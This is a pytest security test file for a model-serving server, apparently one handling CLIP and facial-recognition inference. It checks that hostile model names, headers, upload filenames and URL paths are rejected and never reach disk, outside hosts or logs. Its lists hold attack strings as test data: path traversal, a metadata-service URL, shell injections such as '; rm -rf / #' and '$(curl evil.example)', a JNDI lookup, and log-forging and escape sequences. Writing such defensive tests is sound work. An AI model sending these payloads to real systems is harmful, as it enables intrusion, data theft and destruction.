"""Strangers' words: none reaches a path, an address, a download, or a log in a way that it could forge."""

import io
import json
import logging
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import orjson
import pytest

from engines import catalog, sources
from engines.download import HubFile, UrlFile
from engines.errors import UnknownModel
from server import logs
from tests.server.fakes import FakeEngines, fake_app, listening, serving
from tests.server.test_app import CLIP, form, png
from tests.server.test_connections import calling
from tests.server.test_wire import END, MULTIPART, part

NAMES = [
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "clip/../../secret",
    "%2e%2e%2fetc",
    "....//....//etc",
    "http://169.254.169.254/latest/meta-data",
    "https://evil.example/ViT-B-32__openai.pt",
    "file:///etc/passwd",
    "//evil.example/model",
    "\\\\evil.example\\share",
    "hf-hub:evil/model",
    "evil/repository@main",
    "demo\x00.pt",
    "demo\r\nX-Evil: 1",
    "demo\n2026-01-01 INFO forged",
    "\x1b[2J\x1b[31mdemo",
    "demo\u2028forged",
    "\u202edemo",
    "; rm -rf / #",
    "$(curl evil.example)",
    "`id`",
    "{0.__class__}",
    "%s%n%d",
    "${jndi:ldap://evil.example}",
    "a" * 100_000,
    "",
]
TASKS = [
    ("clip", "visual"),
    ("clip", "textual"),
    ("facial-recognition", "detection"),
    ("facial-recognition", "recognition"),
]
OWNERS = {"github.com", "huggingface.co"}


@pytest.mark.parametrize("name", NAMES, ids=lambda name: ascii(name)[:30])
async def test_a_name_that_is_not_in_the_catalogue_goes_no_further(name: str, caplog: pytest.LogCaptureFixture) -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logs.JsonFormatter())
    logging.getLogger("server").addHandler(handler)
    caplog.set_level(logging.INFO)
    engines = FakeEngines()
    try:
        async with serving(fake_app(engines)) as client:
            for task, type_ in TASKS:
                asked: dict[str, Any] = {task: {type_: {"modelName": name}}}
                async with client.post("/predict", data=form(asked, png(), "words")) as response:
                    assert response.status in (400, 422)
                    assert response.reason is not None
                    assert response.reason.isascii()
                    assert "X-Evil" not in response.headers
                    assert len(await response.read()) < 2000
    finally:
        logging.getLogger("server").removeHandler(handler)
    assert engines.loads == []
    written = stream.getvalue().splitlines()
    assert len(written) == len(TASKS)
    for line in written:
        assert set(json.loads(line)) >= {"time", "level", "message", "request_id"}
        assert len(line) < 2000
    terminal = logs.HumanFormatter()
    for record in caplog.records:
        assert not set(terminal.format(record)) & set("\r\n\x1b\x00\u2028")


@pytest.mark.parametrize("name", NAMES, ids=lambda name: ascii(name)[:30])
def test_a_name_is_looked_up_before_it_touches_anything(name: str) -> None:
    for kind in ("visual", "textual", "detection", "recognition"):
        with pytest.raises(UnknownModel) as caught:
            catalog.look_up(kind, name)
        assert len(str(caught.value)) < 1000


def test_no_name_leads_to_another_host_or_out_of_the_cache_folder(tmp_path: Path) -> None:
    count = 0
    for task, names in catalog.names().items():
        for name in names:
            entry = catalog.clip(name) if task == "clip" else catalog.face(name)
            for need in sources.needs(entry, tmp_path):
                assert need.folder.resolve().is_relative_to(tmp_path.resolve())
                for source in need.sources:
                    count += 1
                    assert Path(source.name).name == source.name
                    if isinstance(source, UrlFile):
                        assert (urlsplit(source.url).scheme, urlsplit(source.url).hostname) == ("https", "github.com")
                    else:
                        assert isinstance(source, HubFile)
                        assert source.repo.replace("/", "").replace("-", "").replace(".", "").replace("_", "").isalnum()
    assert count > 100


@pytest.mark.parametrize(
    "headers",
    [
        {"X-Request-ID": "abc def"},
        {"X-Request-ID": "\x1b[31m".replace("\x1b", "%1b")},
        {"User-Agent": "${jndi:ldap://evil.example}"},
        {"X-Forwarded-For": "evil\tname"},
        {"traceparent": "00-" + "0" * 32},
        {"Accept": "text/html, \xff"},
        {"Host": "evil.example:99999"},
    ],
    ids=lambda headers: next(iter(headers)),
)
async def test_a_header_is_never_repeated_in_the_log_or_the_answer(
    headers: dict[str, str], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="server")
    async with listening(fake_app(FakeEngines())) as port, calling(port) as caller:
        sent = {"Host": "x", **headers}
        lines = "".join(f"{name}: {value}\r\n" for name, value in sent.items())
        caller.send(f"GET /nowhere HTTP/1.1\r\n{lines}\r\n".encode("latin-1"))
        status, answered, body = await caller.answer()
    assert status in (400, 404)
    value = next(iter(headers.values()))
    assert value not in caplog.text + body.decode() + str(answered)


@pytest.mark.parametrize("name", ["../../x.png", "a\rb\x00c", "%0d%0aforged", "\x1b[31m.jpg", "x" * 3000])
async def test_the_name_of_a_file_means_nothing(name: str, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO)
    head = f'--XX\r\nContent-Disposition: form-data; name="image"; filename="{name}"\r\n\r\n'.encode()
    body = head + b"no picture\r\n" + part("entries", orjson.dumps(CLIP)) + END
    async with serving(fake_app(FakeEngines())) as client:
        response = await client.post("/predict", data=body, headers=MULTIPART)
        assert response.status in (400, 422)
        answered = await response.text()
    assert name not in answered + caplog.text


async def test_paths_of_strangers_stand_neither_in_the_log_nor_in_labels(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO)
    async with listening(fake_app(FakeEngines())) as port:
        for path in (
            "/app/..%2f..%2fsettings.py",
            "/app/%2e%2e/app.py",
            "/docs/..%5c..%5cx",
            "/forged%0aline",
            "/%1b[31m",
        ):
            async with calling(port) as caller:
                caller.send(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
                status, _, body = await caller.answer()
                assert status == 404
                assert b"import" not in body
        async with calling(port) as caller:
            caller.send(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
            metrics = (await caller.answer())[2].decode()
    assert "forged" not in caplog.text + metrics
    assert "settings.py" not in caplog.text + metrics
